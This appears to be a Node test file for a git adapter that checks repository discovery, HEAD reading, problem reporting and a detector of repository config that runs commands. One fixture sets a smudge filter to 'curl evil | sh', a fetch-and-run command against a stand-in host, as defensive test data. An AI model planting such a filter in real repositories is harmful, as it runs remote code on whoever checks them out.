import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chownSync, mkdirSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { readHead } from '../src/adapters/git/head.ts';
import { findHostileConfig } from '../src/adapters/git/hostile-config.ts';
import type { RepositoryProblem } from '../src/adapters/git/repository.ts';
import { openRepository } from '../src/adapters/git/repository.ts';
import { git, makeFolder, makeRepository, open } from './git-fixture.ts';

async function problem(cwd: string): Promise<RepositoryProblem> {
  const opened = await openRepository(cwd);
  assert.ok('problem' in opened, JSON.stringify(opened));
  assert.ok(opened.problem.message && opened.problem.mend);
  return opened.problem;
}

test('a repository is found from any folder in it, also through odd names', async () => {
  const parent = path.join(makeFolder(), 'odd "nàme"\nwith a newline');
  mkdirSync(path.join(parent, 'deep/er'), { recursive: true });
  git(parent, 'init', '-q', '-b', 'main');
  const repository = await open(path.join(parent, 'deep/er'));
  assert.equal(repository.root, realpathSync(parent));
  assert.equal(repository.gitDir, path.join(realpathSync(parent), '.git'));
  assert.equal(repository.commonDir, repository.gitDir);
  assert.deepEqual(await readHead(repository), { unborn: 'main' });
});

test('a git that Ctrl-C reaches before it has begun is begun again', async () => {
  const root = makeRepository();
  const folder = makeFolder();
  const real = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
  const once = `[ -e '${folder}/begun' ] || { : > '${folder}/begun'; kill -INT $$; }`;
  writeFileSync(path.join(folder, 'git'), `#!/bin/sh\n${once}\nexec '${real}' "$@"\n`, { mode: 0o755 });
  const { PATH } = process.env;
  process.env.PATH = `${folder}:${PATH}`;
  try {
    const head = await readHead(await open(root));
    assert.ok('commit' in head);
  } finally {
    process.env.PATH = PATH;
  }
});

test('HEAD is read with its branch and its time, attached, detached, and in a linked work tree', async () => {
  const root = makeRepository();
  execFileSync('git', ['commit', '-q', '--allow-empty', '-m', 'Dated'], {
    cwd: root,
    env: { ...process.env, GIT_COMMITTER_DATE: '1700000000 +0530' },
  });
  const commit = git(root, 'rev-parse', 'HEAD').trim();
  const tree = git(root, 'rev-parse', 'HEAD^{tree}').trim();
  const committedAt = { seconds: 1_700_000_000, offset: '+0530' };
  assert.deepEqual(await readHead(await open(root)), { commit, tree, branch: 'main', committedAt });
  const linked = path.join(makeFolder(), 'linked');
  git(root, 'worktree', 'add', '-q', '-b', 'feature/x', linked);
  const repository = await open(linked);
  assert.equal(repository.root, linked);
  assert.equal(repository.commonDir, path.join(root, '.git'));
  assert.equal(repository.gitDir, path.join(root, '.git/worktrees/linked'));
  assert.deepEqual(await readHead(repository), { commit, tree, branch: 'feature/x', committedAt });
  git(root, 'switch', '-q', '--detach');
  assert.deepEqual(await readHead(await open(root)), { commit, tree, branch: null, committedAt });
});

test('what is no work tree is a problem with the way on', async () => {
  const plain = makeFolder();
  assert.equal((await problem(plain)).code, 'no-repository');
  assert.match((await problem(path.join(plain, 'not-there'))).message, /not-there is gone$/);
  git(plain, 'init', '-q', '--bare', 'bare.git');
  assert.equal((await problem(path.join(plain, 'bare.git'))).code, 'no-work-tree');
  assert.equal((await problem(path.join(makeRepository(), '.git'))).code, 'no-work-tree');
  const broken = makeRepository();
  writeFileSync(path.join(broken, '.git/config'), '[core\n');
  assert.equal((await problem(broken)).code, 'unreadable');
});

test('a missing or older git is named as such', async () => {
  const root = makeRepository();
  const { PATH } = process.env;
  const bin = makeFolder();
  try {
    process.env.PATH = bin;
    assert.equal((await problem(root)).code, 'no-git');
    writeFileSync(
      path.join(bin, 'git'),
      '#!/bin/sh\nprintf "false\\ntrue\\n--show-object-format\\n/x\\n/x\\n/x\\n"\n',
      { mode: 0o755 },
    );
    assert.equal((await problem(root)).code, 'old-git');
  } finally {
    process.env.PATH = PATH;
  }
});

test("another user's repository is refused with the command that trusts it", {
  skip: process.getuid?.() !== 0 && 'needs root',
}, async () => {
  const root = makeRepository();
  chownSync(root, 65_534, 65_534);
  chownSync(path.join(root, '.git'), 65_534, 65_534);
  const { HOME, SUDO_UID } = process.env;
  Object.assign(process.env, { HOME: makeFolder(), GIT_CONFIG_SYSTEM: '/dev/null', GIT_CONFIG_GLOBAL: '/dev/null' });
  delete process.env.SUDO_UID;
  const found = await problem(root);
  for (const name of ['GIT_CONFIG_SYSTEM', 'GIT_CONFIG_GLOBAL']) delete process.env[name];
  process.env.HOME = HOME;
  if (SUDO_UID !== undefined) process.env.SUDO_UID = SUDO_UID;
  assert.equal(found.code, 'not-trusted');
  assert.ok(found.mend.endsWith(`git config --global --add safe.directory '${root}'`));
});

test("settings of the repository that run commands are listed, the user's own and harmless ones are not", async () => {
  const root = makeRepository();
  const settings = {
    'core.fsmonitor': 'true',
    'filter.lfs.clean': 'git-lfs clean -- %f',
    'filter.Evil.smudge': 'curl evil | sh',
    'diff.pdf.textconv': 'pdftotext',
    'core.hooksPath': '.husky',
    'remote.origin.url': 'https://example.org/x.git',
  };
  for (const [key, value] of Object.entries(settings)) git(root, 'config', key, value);
  const found = findHostileConfig(await open(root)).map(({ key, value }) => `${key}=${value}`);
  assert.deepEqual(found.sort(), [
    'core.hookspath=.husky',
    'diff.pdf.textconv=pdftotext',
    'filter.Evil.smudge=curl evil | sh',
  ]);
});

test('a work tree that is reached through a link is known by its real path', async () => {
  const root = makeRepository();
  const link = path.join(makeFolder(), 'link');
  symlinkSync(root, link);
  assert.equal((await open(link)).root, root);
});
